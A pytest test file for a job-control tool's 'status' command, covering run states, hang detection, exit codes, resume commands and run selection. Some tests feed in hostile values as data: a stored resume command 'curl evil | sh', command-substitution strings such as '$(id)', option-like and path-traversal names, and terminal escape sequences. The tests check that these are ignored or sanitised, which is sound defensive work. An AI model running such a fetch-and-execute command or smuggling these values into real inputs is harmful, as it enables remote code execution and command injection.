"""status: what jobctl reads from run folders, and which run it reports on. No engine and no shell is started."""

from __future__ import annotations

import ast
import json
import os
import re
import shutil
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from jobc.compiler.plugins.registry import find_plugins
from jobc.runtime.engines.artifact_location import Place
from jobc.runtime.engines.engine import Engine
from jobc.runtime.engines.live_runs import live_run_ids
from jobc.runtime.exit_codes import AFTER_USAGE_ERROR
from jobc.runtime.run_folder.run import Run, last_progress, worst_code
from jobc.runtime.system.failure import Failure
from jobc.runtime.system.values import number_or_none, read_keys, word_or_empty
from jobc.runtime.verbs import status
from tests.packed import write_program

from .sample_runs import make_job, make_run, node

RUNTIME = Path(status.__file__).parents[1]
BACKENDS = RUNTIME.parent / "backends"


def lines(engine: Engine, run: Run) -> list[str]:
    return status._format_report(status.run_to_json_object(engine, run), "logs in")


def test_a_live_node_is_up_with_its_last_step(tmp_path: Path) -> None:
    metrics = '{"step": 7, "loss": 2.00004}\n{"step": 8, "lo'
    run = make_run(tmp_path, state__node_00=node(first_rank=0), **{"metrics__rank_00.jsonl": metrics})
    (first, second, _) = lines(Engine(make_job(tmp_path)), run)
    assert first == "run r of job demo, attempt 0: live"
    host = os.uname().nodename
    assert second == f"  node 00  up on {host} since 1970-01-01 00:00:01 UTC, pid {os.getpid()}, step 7, loss 2"


@pytest.mark.parametrize(
    ("rank", "note"),
    [
        (None, "rank 0 has not started: its launcher may be waiting for other nodes"),
        ("attempt=7\nbegan=1\n", "rank 0 has not started: its launcher may be waiting for other nodes"),
        ("attempt=0\nbegan=61\n", "rank 0 started at 1970-01-01 00:01:01 UTC; no output yet"),
        (
            "attempt=0\nbegan=61\nfirst_output=70\n",
            "rank 0 started at 1970-01-01 00:01:01 UTC; first output 9 s later",
        ),
    ],
)
def test_a_program_that_reports_no_steps_has_started_or_printed(tmp_path: Path, rank: str | None, note: str) -> None:
    texts = {"state__rank_00": rank} if rank else {}
    run, engine = make_run(tmp_path, state__node_00=node(attempt=0), **texts), Engine(make_job(tmp_path))
    assert lines(engine, run)[2] == f"  {note}"
    (run.path / "state/node_00").write_text(node(attempt=0, ended=5, exit=0))
    assert len(lines(engine, Run(run.path))) == 3


def test_the_age_of_the_last_output_shows_a_hang_in_its_first_minutes(tmp_path: Path) -> None:
    texts = {"state__rank_00": "attempt=0\nbegan=61\nfirst_output=70\n", "logs__rank_00.log": "hello\n"}
    run, engine = make_run(tmp_path, state__node_00=node(attempt=0), **texts), Engine(make_job(tmp_path))
    assert len(lines(engine, run)) == 4
    before = time.time() - 78
    os.utime(run.path / "logs/rank_00.log", (before, before))
    assert re.fullmatch("  last output of rank 0: 7[89] s ago", lines(engine, Run(run.path))[3])
    engine.sees_ranks = False  # the log is then a copy
    assert len(lines(engine, Run(run.path))) == 4
    engine.sees_ranks = True
    (run.path / "state/node_00").write_text(node(attempt=0, ended=5, exit=0))
    (run.path / "state/node_01").write_text(node(attempt=0))
    assert not any("last output" in line for line in lines(engine, Run(run.path)))


def test_ranks_that_may_hang_are_named_when_those_of_all_nodes_are_idle(tmp_path: Path) -> None:
    idle = {"attempt": 0, "idle_since": 60, "idle_ranks": "2 3 \x1b[31m", "left_ranks": ""}
    texts = {"state__node_00": node(attempt=0), "state__node_01": node(**idle), "state__rank_00": "attempt=0\nbegan=1"}
    run, job = make_run(tmp_path, **texts), make_job(tmp_path, nodes=2)
    assert not any("may be hung" in line for line in lines(Engine(job), run))
    (run.path / "state/node_00").write_text(node(**{**idle, "idle_since": 61, "idle_ranks": "1", "left_ranks": "0"}))
    line = "  ranks 1 2 3 may be hung: no output and no CPU time since 1970-01-01 00:01:01 UTC; possible cause: "
    assert any(found == f"{line}rank 0 exited with 0" for found in lines(Engine(job), Run(run.path)))
    (run.path / "state/node_00").write_text(node(attempt=0, ended=70, exit=0))
    found = lines(Engine(job), Run(run.path))
    assert any(line.endswith("; possible cause: node 0 exited with 0") for line in found)


@pytest.mark.parametrize(
    ("keys", "more", "text"),
    [
        ({"ended": 5, "exit": 0}, {}, "done (exit 0)"),
        ({"ended": 5, "exit": 0}, {"control__STOP": ""}, "stopped by jobctl stop (exit 0)"),
        ({"ended": 5, "exit": 75}, {}, "stopped early (exit 75)"),
        ({"ended": 5, "exit": 9}, {}, "failed (exit 9: unknown)"),
        ({"start_ticks": 1}, {}, "failed: its supervisor was killed, or the machine was restarted"),
        ({"host": "away"}, {}, "live"),
        ({"host": "away"}, {"control__STOP": ""}, "stopping"),
    ],
)
def test_a_run_is_one_of_these(tmp_path: Path, keys: dict[str, object], more: dict[str, str], text: str) -> None:
    run = make_run(tmp_path, state__node_00=node(**keys), **more)
    assert Engine(make_job(tmp_path)).state(run).text == text


def test_a_node_that_is_silent_for_long_has_failed(tmp_path: Path) -> None:
    run = make_run(tmp_path, state__node_00=node(host="away"))
    before = time.time() - 1000
    os.utime(run.path / "state/node_00", (before, before))
    assert Engine(make_job(tmp_path)).state(run).text.startswith("failed: its supervisor")


def test_of_several_nodes_the_first_failure_is_the_reason(tmp_path: Path) -> None:
    texts = {"state__node_00": node(ended=5, exit=69), "state__node_01": node(ended=5, exit=65)}
    exits = {"exit__0__node_00": "69\n", "exit__0__node_01": "65\n", "exit__0__first": "65\nnode=1\nreason=bad data\n"}
    run, job = make_run(tmp_path, **texts, **exits), make_job(tmp_path, nodes=2)
    (job.artifact / "hosts.txt").write_text("a\nb\n")
    found = lines(Engine(job), run)
    assert found[0].endswith("failed (exit 65: invalid data or configuration: a restart will not help)")
    assert found[1] == "  reason: node 1: bad data"


def test_a_node_without_an_exit_code_is_a_crash(tmp_path: Path) -> None:
    run, job = (
        make_run(tmp_path, state__node_00=node(ended=5, exit=0), exit__0__node_00="0\n"),
        make_job(tmp_path, nodes=2),
    )
    (job.artifact / "hosts.txt").write_text("a\nb\n")
    state = Engine(job).state(run)
    assert (state.exit_code, state.reason) == (1, "not all nodes recorded an exit code")


def test_a_run_that_ended_early_goes_on_with_the_submit_script_of_the_artifact(tmp_path: Path) -> None:
    run = make_run(tmp_path, state__node_00=node(ended=5, exit=75), state__resume="command=curl evil | sh\n")
    job = make_job(tmp_path)
    assert status.run_to_json_object(Engine(job), run)["resume"] == f"{job.artifact}/jobctl submit --resume r"


@pytest.mark.parametrize(
    ("texts", "last"),
    [
        ({"state__resume": "command=x\nnew_code=yes\n"}, "resume with: {}/jobctl submit --resume r --new-code"),
        ({"state__resume": "command=x\n"}, "node 00"),
        (
            {"state__resume": "command=x\nnew_code=yes\n", "reason": "rank 0: exit status 2: x"},
            f"next: {AFTER_USAGE_ERROR}",
        ),
    ],
)
def test_after_a_crash_status_says_how_to_go_on(tmp_path: Path, texts: dict[str, str], last: str) -> None:
    reason = texts.pop("reason", "KeyError")
    run = make_run(tmp_path, state__node_00=node(ended=5, exit=1, reason=reason), **texts)
    job = make_job(tmp_path)
    assert lines(Engine(job), run)[-2].startswith(f"  {last.format(job.artifact)}")


def test_a_run_names_the_artifact_from_which_it_was_submitted_while_that_exists(tmp_path: Path) -> None:
    artifact = tmp_path / "artifacts/demo/local"
    run = make_run(tmp_path, state__run=f"job=demo\nproject={tmp_path}\nartifact={artifact}\n")
    tree = json.dumps({"job": "demo", "runs": "runs", "place": "demo/local"})
    for folder in (artifact, run.path / "artifact/0"):
        (folder / ".jobc").mkdir(parents=True)
        (folder / ".jobc/job.json").write_text(tree)
        (folder / "jobctl").touch()
    copy = run.path / "artifact/0"
    assert Engine(Place(copy).job).resume(run) == f"{artifact}/jobctl submit --resume r"
    (artifact / ".jobc/job.json").unlink()
    assert Engine(Place(copy).job).resume(run) == f"{copy}/jobctl submit --resume r"


# ---- values of files that somebody else may have written


@pytest.mark.parametrize("text", ["", "-1", "1" * 19, "٣", "1.5", "x[$(id)]", " 1"])
def test_a_number_is_bounded_digits(text: str) -> None:
    assert number_or_none(text) is None and number_or_none("007") == 7


@pytest.mark.parametrize("text", ["", "-rf", "../x", "a b", "$(id)", "a;b"])
def test_a_word_is_no_option_and_no_path(text: str) -> None:
    assert word_or_empty(text) == "" and word_or_empty("job-1.a_b") == "job-1.a_b"


def test_the_first_line_of_a_key_counts_without_control_characters(tmp_path: Path) -> None:
    (tmp_path / "file").write_bytes(b"1\nreason=\x1b]0;x\x07a\xc2\x9bb\nreason=second\nno\xff\n\0key=hidden\n")
    assert read_keys(tmp_path / "file") == {"reason": "]0;xab"}
    (tmp_path / "link").symlink_to(tmp_path / "file")
    assert read_keys(tmp_path / "link") == {}


@pytest.mark.parametrize(
    ("text", "step"),
    [
        ('{"step": 1, "loss": 2}', 1),
        ('{"step": 1, "loss": 2}\n{"step": 2}', 1),
        ('{"step": 3, "loss_ema": 1e-3, "x": 1}', 3),
        ('{"step": ' + "9" * 5000 + ', "loss": 1}', None),
        ('{"step": 1, "loss": 1.2.3}', None),
        ('{"step": "run[$(id)]", "loss": "\\u001b"}', None),
        ("[" * 10000, None),
    ],
)
def test_the_last_step_is_a_bounded_number(text: str, step: int | None) -> None:
    found = last_progress(text.split("\n"))
    assert (found and found.step) == step


def test_the_worst_code_deserves_attention() -> None:
    assert worst_code([0, 75, 69, 1, 71, 65]) == 65 and worst_code([0, 9]) == 1 and worst_code([]) is None


# ---- which run


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Place:
    monkeypatch.delenv("JOBC_RUN_ROOT", raising=False)
    artifact = tmp_path / "artifacts/demo/x"
    (artifact / ".jobc").mkdir(parents=True)
    tree = {"job": "demo", "runs": "runs", "nodes": 1, "backend": "x", "place": "demo/x"}
    (artifact / ".jobc/job.json").write_text(json.dumps(tree))
    return Place(artifact)


def test_the_newest_run_is_chosen_and_names_that_are_no_runs_are_ignored(tmp_path: Path, place: Place) -> None:
    for age, name in enumerate(("new", "old", ".gone", "a\nb", "-rf")):
        run = make_run(tmp_path, name)
        os.utime(run.path / "artifact", (1000 - age, 1000 - age))
    assert [run.id for run in place.list_runs()] == ["new", "old"]
    assert place.choose_run("").id == "new" and place.choose_run("old").id == "old"


def test_a_missing_run_is_one_message(tmp_path: Path, place: Place) -> None:
    for named in ("", "x", "../x", "\x1b[2J", "a\0b"):
        with pytest.raises(Failure, match="has no run"):
            place.choose_run(named)


def test_live_runs_are_found_before_another_one_starts(tmp_path: Path, place: Place) -> None:
    states = {"new": node(), "old": node(ended=5, exit=0), "not_started": "", "older": node()}
    for age, (name, state) in enumerate(states.items()):
        run = make_run(tmp_path, name, **({"state__node_00": state} if state else {}))
        os.utime(run.path / "artifact", (1000 - age, 1000 - age))
    assert live_run_ids(place.engine(), place.list_runs()) == ["new", "older"]


def subscripted_types(tree: ast.Module) -> Iterator[str]:
    """Assignments of a module such as `Say = Callable[[str], None]`, which Python 3.8 cannot execute."""
    names = {"dict", "list", "set", "tuple", "type"} | {
        alias.name
        for entry in tree.body
        if isinstance(entry, ast.ImportFrom) and entry.module == "collections.abc"
        for alias in entry.names
    }
    for statement in tree.body:
        for part in ast.walk(statement) if isinstance(statement, ast.Assign) else ():
            if isinstance(part, ast.Subscript) and isinstance(part.value, ast.Name) and part.value.id in names:
                yield ast.unparse(statement)


def test_the_programs_run_with_python_3_8(tmp_path: Path) -> None:
    """With every older Python that is here; else with this one, and its own grammar check of version 3.8."""
    program = write_program(tmp_path)
    pythons = [sys.executable, *filter(None, map(shutil.which, ("python3.8", "python3.9", "python3.10")))]
    for python in pythons:
        for words, code in ((["check_table", "n1"], 1), (["status"], 1), (["logs"], 1), (["clean"], 1)):
            done = subprocess.run([python, "-I", "-S", program, *words], input=b"", capture_output=True, check=False)
            if b"pyenv: " in done.stderr:
                continue  # a shim of a Python that is not switched on
            assert done.returncode == code and b"Traceback" not in done.stderr, (python, done.stderr)
    for file in [*RUNTIME.rglob("*.py"), *BACKENDS.glob("*/engine*/*.py"), *BACKENDS.glob("*/engine.py")]:
        tree = ast.parse(file.read_text(), feature_version=(3, 8))
        assert not [*subscripted_types(tree)], file
    for backend in find_plugins():
        with zipfile.ZipFile(write_program(tmp_path, backend=backend)) as archive:
            for name in archive.namelist():
                if name.startswith("jobc_engine") and name.endswith(".py"):
                    ast.parse(archive.read(name), feature_version=(3, 8))


def test_the_format_for_programs_is_documented(tmp_path: Path) -> None:
    page = (RUNTIME.parent / "docs/reference/status.md").read_text()
    run = make_run(tmp_path, state__node_00=node())
    report = status.run_to_json_object(Engine(make_job(tmp_path)), run)
    keys = {*report, *report["nodes"][0], "schema", "runs", "points", "point"}
    assert not [key for key in keys if f"`{key}`" not in page]
